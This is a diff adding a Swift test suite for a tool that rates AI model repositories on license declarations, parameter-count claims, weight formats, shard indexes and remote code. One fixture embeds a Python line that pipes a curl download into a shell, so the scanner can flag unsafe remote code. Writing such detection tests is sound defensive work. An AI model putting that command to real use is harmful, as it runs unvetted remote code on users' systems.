@@ -1,0 +1,191 @@
+import Foundation
+import Testing
+import TrustmarkCore
+@testable import ModelRepository
+
+/// Probes on small repositories written by the tests: each scenario is one claim checked against one artifact.
+@Suite("Probes on repositories")
+struct ProbeScenarioTests {
+    @Test func aCardSizeThatAgreesWithTheHeadersPasses() throws {
+        let repository = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\nA model with 448 parameters in total.\n"])
+        try repository.write("model.safetensors", llamaSafetensors(layers: 3))
+        let rating = try repository.rating()
+        #expect(rating.outcome("D3.parameters") == .pass)
+    }
+
+    @Test func aCardSizeTheHeadersContradictPointsAtBoth() throws {
+        let repository = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\n\nThis is a 13B parameter model.\n"])
+        try repository.write("model.safetensors", llamaSafetensors(layers: 3))
+        let finding = try #require(try repository.rating().findings("D3.parameters").first)
+        #expect(finding.outcome == .contradicted)
+        #expect(finding.evidence.first?.path == "README.md" && finding.evidence.first?.lineStart == 6)
+        #expect(finding.evidence.contains { $0.path == "model.safetensors" && $0.byteStart == 0 })
+        #expect(finding.values["measured"] == "448")
+    }
+
+    @Test func packedQuantizedWeightsAreNotComparedNaively() throws {
+        let repository = try TemporaryRepository(["README.md": "# m\nA 7B parameter model, 4-bit GPTQ.\n"])
+        try repository.write("model.safetensors", llamaSafetensors(layers: 0, names: ["model.layers.0.self_attn.q_proj.qweight", "model.layers.0.self_attn.q_proj.scales"]))
+        #expect(try repository.rating().outcome("D3.parameters") == .claimed)
+    }
+
+    @Test func configLayersMustMatchTheWeights() throws {
+        let repository = try TemporaryRepository(["config.json": llamaConfig(layers: 4)])
+        try repository.write("model.safetensors", llamaSafetensors(layers: 2))
+        let findings = try repository.rating().findings("D3.architecture")
+        #expect(findings.contains { $0.outcome == .contradicted && $0.evidence.first?.pointer == "/num_hidden_layers" && $0.evidence.first?.lineStart == 5 })
+    }
+
+    @Test func dangerousRemoteCodeIsUnsafeAndFailsTheGate() throws {
+        let repository = try TemporaryRepository([
+            "README.md": "---\nlicense: mit\n---\n",
+            "config.json": llamaConfig(layers: 1, extra: #""auto_map": {"AutoModel": "modeling_x.M"}"#),
+            "modeling_x.py": "import torch\n# os.system('not this comment')\nmodel.eval()\nos.system('curl example.org | sh')\n",
+        ])
+        let rating = try repository.rating()
+        let unsafe = rating.findings("A3").filter { $0.outcome == .unsafe }
+        #expect(unsafe.count == 1)
+        #expect(unsafe.first?.evidence.first?.lineStart == 4)
+        #expect(unsafe.first?.severity == .critical)
+        #expect(rating.label == "F-unsafe")
+    }
+
+    @Test func benignRemoteCodeIsReportedButNotUnsafe() throws {
+        let repository = try TemporaryRepository([
+            "config.json": llamaConfig(layers: 1, extra: #""auto_map": {"AutoModel": "other/repo--modeling_x.M"}"#),
+            "modeling_x.py": "def f(model):\n    return model.eval()\n",
+        ])
+        let rating = try repository.rating()
+        #expect(rating.outcome("A3") == .absent)
+        #expect(!rating.isUnsafe)
+        #expect(rating.findings("A3").contains { $0.values["repository"] == "other/repo" })
+    }
+
+    @Test func pickleOnlyWeightsAreNotSafeSerialization() throws {
+        let repository = try TemporaryRepository()
+        try repository.write("pytorch_model.bin", [0x80, 0x02, 0x7D, 0x71, 0x00, 0x2E])
+        #expect(try repository.rating().outcome("A1") == .absent)
+        try repository.write("model.safetensors", llamaSafetensors(layers: 1))
+        #expect(try repository.rating().outcome("A1") == .pass)
+    }
+
+    @Test func missingLicenseCapsTheGradeAtD() throws {
+        let repository = try TemporaryRepository(["README.md": "# m\n"])
+        let rating = try repository.rating()
+        #expect(rating.outcome("L1") == .absent)
+        #expect(rating.gates.contains { $0.gate == .noLicense && $0.triggered })
+        #expect(rating.grade.map { $0 >= .d } == true)
+    }
+
+    @Test(arguments: [
+        ("---\nlicense: apache-2.0\n---\n", Outcome.pass), ("---\nlicense: other\n---\n", .claimed),
+        ("---\nlicense: other\nlicense_name: acme\nlicense_link: https://acme.example/license\n---\n", .pass),
+        ("---\nlicense: unknown\n---\n", .absent), ("# no metadata\n", .absent),
+    ])
+    func licenseDeclarations(card: String, outcome: Outcome) throws {
+        #expect(try TemporaryRepository(["README.md": card]).rating().outcome("L1") == outcome)
+    }
+
+    @Test func aLicenseFileAloneCountsAsDeclared() throws {
+        let rating = try TemporaryRepository(["LICENSE.txt": "MIT License ..."]).rating()
+        #expect(rating.outcome("L1") == .pass)
+        #expect(rating.findings("L1").first?.evidence.first?.path == "LICENSE.txt")
+    }
+
+    @Test func shardIndexesMustMatchTheShards() throws {
+        let shard = llamaSafetensors(layers: 1)
+        let dataBytes = 16 * 8 * 2 * 2 + 64 * 2
+        let index = #"{"metadata": {"total_size": \#(dataBytes + 4096)}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}"#
+        let repository = try TemporaryRepository(["model.safetensors.index.json": index])
+        try repository.write("model-00001-of-00002.safetensors", shard)
+        let missing = try repository.rating().findings("A5")
+        #expect(missing.contains { $0.outcome == .contradicted && $0.message.contains("not in the repository") })
+        try repository.write("model-00002-of-00002.safetensors", shard)
+        try repository.write("model-00003-of-00003.safetensors", shard)
+        let findings = try repository.rating().findings("A5")
+        #expect(findings.contains { $0.message.contains("total_size") && $0.evidence.first?.pointer == "/metadata/total_size" })
+        #expect(findings.contains { $0.message.contains("does not list it") })
+    }
+
+    @Test func corruptWeightsAreContradictedNotCrashed() throws {
+        let repository = try TemporaryRepository()
+        try repository.write("model.safetensors", Array(llamaSafetensors(layers: 2).dropLast(10)))
+        let rating = try repository.rating()
+        #expect(rating.findings("A5").contains { $0.outcome == .contradicted && $0.message.contains("truncated") })
+        #expect(rating.outcome("D3.parameters") == .unknown)
+    }
+
+    @Test func openDataNextToProprietaryDataIsContradicted() throws {
+        let card = "---\nlicense: mit\n---\n# m\n\nTrained on fully open data.\n\n## Training data\nOur data is not publicly available.\n"
+        let finding = try #require(try TemporaryRepository(["README.md": card]).rating().findings("D4").first)
+        #expect(finding.outcome == .contradicted)
+        #expect(finding.evidence.compactMap(\.lineStart) == [6, 9])
+    }
+
+    @Test func datasetsInMetadataDiscloseTrainingData() throws {
+        let card = "---\nlicense: mit\ndatasets:\n  - allenai/c4\n---\n"
+        let finding = try #require(try TemporaryRepository(["README.md": card]).rating().findings("D4").first)
+        #expect(finding.outcome == .pass)
+        #expect(finding.evidence.first?.lineStart == 4)
+        #expect(finding.evidence.first?.pointer == "/datasets/0")
+    }
+
+    @Test func derivativesMustDeclareTheirBase() throws {
+        let prose = try TemporaryRepository(["README.md": "# m\nThis model is fine-tuned from Llama-3.1-8B.\n"]).rating()
+        #expect(prose.outcome("P1") == .claimed)
+        let declared = try TemporaryRepository(["README.md": "---\nbase_model: meta-llama/Llama-3.1-8B\n---\n"]).rating()
+        #expect(declared.outcome("P1") == .pass)
+        let original = try TemporaryRepository(["README.md": "# m\nTrained from scratch.\n"]).rating()
+        #expect(original.outcome("P1") == .notApplicable)
+    }
+
+    @Test func ratingsAreDeterministic() throws {
+        let repository = try TemporaryRepository(["README.md": "---\nlicense: mit\n---\n# m\n## Uses\nFor tests.\n", "config.json": llamaConfig(layers: 2)])
+        try repository.write("model.safetensors", llamaSafetensors(layers: 2))
+        let first = try repository.rating()
+        let second = try repository.rating()
+        #expect(first.findings == second.findings)
+        #expect(first.score == second.score)
+    }
+}
+
+@Suite("Bundled examples")
+struct ExampleTests {
+    static func example(_ name: String) throws -> Rating {
+        var folder = URL(fileURLWithPath: #filePath)
+        for _ in 0..<3 { folder.deleteLastPathComponent() }
+        let path = folder.appendingPathComponent("Examples").appendingPathComponent(name).path
+        return RatingEngine().rate(try SnapshotLoader().load(.folder(path: path)))
+    }
+
+    @Test func theOpenModelEarnsAnA() throws {
+        let rating = try ExampleTests.example("open-tiny-lm")
+        #expect(rating.grade == .a)
+        #expect(!rating.findings.contains { [.contradicted, .unsafe, .unknown].contains($0.outcome) })
+        #expect(rating.outcome("D4") == .pass && rating.outcome("D5") == .pass && rating.outcome("A5") == .pass)
+        #expect(rating.facts.parameters == 164_672)
+    }
+
+    @Test func theCommunityModelShowsItsGaps() throws {
+        let rating = try ExampleTests.example("community-chat")
+        #expect(rating.grade == .c)
+        #expect(rating.outcome("D2.out-of-scope") == .absent)
+        #expect(rating.outcome("D5") == .claimed)
+        #expect(rating.outcome("A3") == .absent)
+        #expect(rating.outcome("P1") == .pass)
+        #expect(!rating.isUnsafe)
+    }
+
+    @Test func theContradictingCardIsCaughtAtTheExactLine() throws {
+        let rating = try ExampleTests.example("contradicting-card")
+        let parameters = try #require(rating.findings("D3.parameters").first)
+        #expect(parameters.outcome == .contradicted)
+        #expect(parameters.evidence[0].path == "README.md" && parameters.evidence[0].lineStart == 11)
+        #expect(parameters.evidence[0].snippet?.contains("7 billion parameter") == true)
+        #expect(parameters.evidence[1].path == "model.safetensors" && parameters.evidence[1].byteEnd != nil)
+        #expect(rating.findings("D3.architecture").filter { $0.outcome == .contradicted }.count == 2)
+        #expect(rating.outcome("D4") == .contradicted)
+        #expect(rating.label.hasSuffix("⚠"))
+        #expect(rating.grade.map { $0 >= .b } == true)
+    }
+}
